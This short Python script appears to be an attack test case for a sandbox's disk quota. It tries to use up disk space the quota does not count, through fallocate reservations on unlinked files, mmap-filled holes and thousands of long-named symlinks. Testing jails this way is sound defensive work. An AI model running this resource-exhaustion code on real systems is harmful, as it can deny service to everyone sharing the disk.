# attack: jail/quota-by-every-way
# oracle: runaway
# imports: os, fcntl, mmap
# tools:
# source: own
# note: room on the disk that is no file's length: blocks reserved beyond the end, holes filled by a mapping, names, links, removed files
import ctypes
import mmap
import os

libc = ctypes.CDLL(None)
held = []


def attempt(action):
    try:
        action()
    except (OSError, ValueError):
        pass


def reserve(n):
    fd = os.open(f"r{n}", os.O_RDWR | os.O_CREAT)
    held.append(fd)
    libc.fallocate(fd, 1, ctypes.c_long(0), ctypes.c_long(7 << 20))  # FALLOC_FL_KEEP_SIZE
    os.unlink(f"r{n}")


def fill(n):
    fd = os.open(f"m{n}", os.O_RDWR | os.O_CREAT)
    held.append(fd)
    os.ftruncate(fd, 1 << 20)
    os.unlink(f"m{n}")
    part = mmap.mmap(fd, 1 << 20)
    held.append(part)


def names(n):
    os.mkdir(f"d{n}")
    for m in range(500):
        os.symlink("x" * 3000, f"d{n}/{'s' * 200}{m}")


for n in range(100):
    attempt(lambda: reserve(n))
for n in range(100):
    attempt(lambda: fill(n))
for n in range(200):
    attempt(lambda: names(n))
